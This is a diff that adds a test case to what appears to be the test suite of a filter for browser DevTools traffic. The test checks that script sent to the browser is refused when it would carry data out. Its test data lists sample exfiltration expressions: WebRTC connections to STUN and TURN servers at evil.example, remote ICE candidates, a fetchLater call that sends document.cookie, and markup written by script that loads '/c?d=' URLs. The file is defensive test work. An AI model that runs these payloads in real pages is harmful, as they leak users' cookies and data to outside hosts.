@@ -737,3 +737,48 @@ t.test('twenty-second pass: a URL in a style written with CSS escapes is read as
   // Control: escapes that name no URL (a quotation mark as content, an escaped class name).
   t.same(cdpLoadsOf(JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: 'q::before { content: "\\201C" } .md\\:flex { display: flex }' }))), { urls: [] }, 'escapes naming no URL load nothing');
 });
+
+// Code the reader missed (twenty-second pass): a WebRTC connection (`iceServers` naming a STUN or
+// TURN server, whose username and name carry data over UDP; a remote candidate at any address),
+// loads through sinks it did not know (`fetchLater`, a service worker, `ping`, `imageSrcset`,
+// `background`, a property named in brackets) and markup a script writes with a URL relative to
+// the page (`innerHTML`, `insertAdjacentHTML`, `document.write`, a template's substitution in a
+// URL attribute, a literal ending inside one). Each was relayed; each now closes the socket.
+t.test('twenty-second pass: WebRTC, loads through other sinks and markup a script writes with a relative URL close the socket', async (t) => {
+  const codes = [
+    "new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:3478' }] }).createDataChannel('d')",
+    "new RTCPeerConnection({ iceServers: [{ urls: ['turn:4111.evil.example?transport=tcp'], username: '4111', credential: 'x' }] })",
+    'const pc = new webkitRTCPeerConnection({ iceServers: servers })',
+    "pc.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 203.0.113.7 4111 typ host', sdpMid: '0' })",
+    "pc.setRemoteDescription({ type: 'offer', sdp: sdp + 'a=candidate:1 1 udp 1 203.0.113.7 4111 typ host' })",
+    "fetchLater('/c?d=' + document.cookie)",
+    "navigator.serviceWorker.register('/sw.js?d=4111')",
+    "a.ping = '/c?d=4111'; a.click()",
+    "link.imageSrcset = '/c?d=4111 1x'",
+    "document.body.background = '/c?d=4111'",
+    "img['src'] = '/c?d=' + d",
+    "window['location'] = '/c?d=4111'",
+    "document.body.insertAdjacentHTML('beforeend', '<img src=/c?d=4111>')",
+    "document.head.innerHTML += '<link rel=prefetch href=/c?d=4111>'",
+    'document.body.innerHTML = `<img src="/c?d=${d}">`',
+    "document.write('<form action=\"?d=4111\"></form>')",
+    "el.innerHTML = '<img src=\"' + u + '\">'",
+    "el.outerHTML = '<div style=\"background: url(/c?d=4111)\"></div>'",
+  ];
+  for (const code of codes) t.ok(cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code }))).refused, `refused: ${code}`);
+  t.equal((await session([JSON.stringify(cdp('Runtime.evaluate', { expression: codes[1]! }))], [], 'browser.example')).code, 1008, 'WebRTC through the socket');
+  t.notOk(ranText().includes('turn:4111'), 'nothing reached the browser');
+  // Controls: markup of the allowed site, a fragment, text; a state object with a `turns` count;
+  // a service worker of the allowed site written out.
+  for (const code of [
+    "el.innerHTML = '<a href=\"https://docs.example/guide\">guide</a> <a href=\"#top\">top</a>'",
+    "el.innerHTML = '<p class=\"note\">' + text + '</p>'",
+    'el.innerHTML = `<a href="https://docs.example/items/${id}">item</a>`',
+    'const game = { turns: 3, score: 0 }; game.turns += 1',
+    "navigator.serviceWorker.register('https://docs.example/sw.js')",
+    "if (a < b && c > d) x = '<b>bold</b>'",
+  ]) {
+    const r = cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code })));
+    t.ok(!r.refused && r.urls.every((u) => new URL(u).hostname === 'docs.example'), `goes on: ${code} (${JSON.stringify(r)})`);
+  }
+});
